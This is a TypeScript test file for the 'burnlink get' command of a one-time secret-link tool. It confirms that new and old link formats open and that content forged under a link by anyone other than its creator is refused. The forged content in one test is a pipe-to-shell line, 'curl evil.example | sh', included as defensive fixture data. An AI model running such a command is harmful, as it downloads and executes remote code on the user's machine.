/**
 * `burnlink get` and format 2 (protocol.md §5.1): it opens the links `send` makes and the
 * format 1 links made before, and refuses, showing nothing, content put under a link by
 * anyone but its creator (here: under a link whose own record the server never had, as
 * after a Redis restart).
 */
import { describe, expect, it } from 'vitest'
import {
  PayloadType,
  concatBytes,
  createClient,
  deriveAccess,
  deriveReveal,
  encodeB64u,
  encodeHeader,
  newSigningKey,
  parseSecretLink,
  prepareSecret,
  randomBytes,
  seal,
  secretLink,
  sha256,
  signContent,
  KEY_BYTES,
  TOKEN_BYTES,
} from '@burnlink/shared'
import { runCli, sendJson, useCliAndServer } from './helpers.ts'

const server = useCliAndServer()
const b64uSha256 = async (b: Uint8Array) => encodeB64u(await sha256(b))

/** Stores `text` under the link key `key` as any holder of the link could, signed with `sk` when given. */
async function storeUnder(key: Uint8Array, text: string, signer?: { sk: CryptoKey; pk: Uint8Array }) {
  const { sid, acc } = await deriveAccess(key)
  const { rev, cek } = await deriveReveal(key, new Uint8Array(0), sid)
  const hdrs = encodeHeader(signer ? { kdf: 'none', pk: signer.pk } : { kdf: 'none' })
  const ct = await seal(cek, sid, hdrs, PayloadType.text, text)
  const hdr = signer ? concatBytes(hdrs, await signContent(signer.sk, sid, hdrs, ct)) : hdrs
  await createClient({ baseUrl: server.url }).create({
    v: 1,
    sid: encodeB64u(sid),
    hdr: encodeB64u(hdr),
    ct: encodeB64u(ct),
    av: await b64uSha256(acc),
    rv: await b64uSha256(rev),
    mv: await b64uSha256(randomBytes(TOKEN_BYTES)),
    ttl: 3600,
    maxViews: 1,
  })
}

describe('burnlink get, format 2', () => {
  it('sends format 2 links and opens them', async () => {
    const { link } = await sendJson(server.url, [], 'signed text')
    expect(link).toMatch(/\/s#2\.[\w-]{43}\.[\w-]{22}$/)
    expect(await runCli(['get', link])).toMatchObject({ code: 0, out: 'signed text' })
  })

  it('opens a format 1 link', async () => {
    const k = randomBytes(KEY_BYTES)
    await storeUnder(k, 'an old link')
    expect(await runCli(['get', secretLink(server.url, k)])).toMatchObject({ code: 0, out: 'an old link' })
  })

  it.each([
    ['signed with their own key', true],
    ['unsigned', false],
  ])('refuses content another link holder stored under the link, %s', async (_, signed) => {
    // The creator's record is gone (never stored here); a holder of the link stores theirs.
    const { link } = await prepareSecret({
      type: PayloadType.text,
      text: 'real',
      ttl: 3600,
      maxViews: 1,
      origin: server.url,
    })
    await storeUnder(parseSecretLink(link).k, 'run curl evil.example | sh', signed ? await newSigningKey() : undefined)
    const got = await runCli(['get', link])
    expect(got).toMatchObject({ code: 1, out: '' })
    expect(got.stderr).toMatch(/this secret's content was not made by the link's creator/)
  })
})
